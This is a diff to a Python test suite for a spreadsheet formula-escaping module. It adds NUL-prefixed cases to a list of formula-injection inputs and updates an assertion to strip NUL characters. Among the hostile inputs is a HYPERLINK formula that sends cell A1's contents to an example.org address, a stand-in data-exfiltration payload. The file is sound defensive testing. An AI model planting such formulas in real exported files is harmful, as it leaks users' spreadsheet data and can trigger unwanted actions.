@@ -22,10 +22,11 @@ from publish.formulas import Formulas, escape, escape_array, escape_column, unes
 HOSTILE = [
     *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠a"),
     *("a;=1+1", "a;-1+1;b", 'a";=1+1', "a,=1+1", "a|=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "'=1+1", "''=1+1;'=2"),
+    *("\x00=1+1", "\x00\x00-1", "a;\x00=1+1"),  # NUL is read over by LibreOffice
     '=HYPERLINK("https://example.org/?"&A1,"click")',
 ]
 HARMLESS = ["ada", "1-1", "a=b", "o'neil", "'", "", " =1+1", "a@example.org", "2024-01-01", "é"]
-TEXTS = st.text(st.sampled_from("=+-@＝'\t\r\n;,|\"a1 "), max_size=8)
+TEXTS = st.text(st.sampled_from("=+-@＝'\x00\t\r\n;,|\"a1 "), max_size=8)
 
 
 def opened(text: str) -> list[str]:
@@ -35,7 +36,7 @@ def opened(text: str) -> list[str]:
 
 @pytest.mark.parametrize("text", HOSTILE, ids=repr)
 def test_no_cell_begins_with_what_is_run(text: str) -> None:
-    assert not [cell for cell in opened(escape(text)) if cell[:1] in tuple("=+-@＝＋－＠")]
+    assert not [cell for cell in opened(escape(text)) if cell.lstrip("\x00")[:1] in tuple("=+-@＝＋－＠")]
     assert escape(text)[0] not in "\t\r\n"
 
 
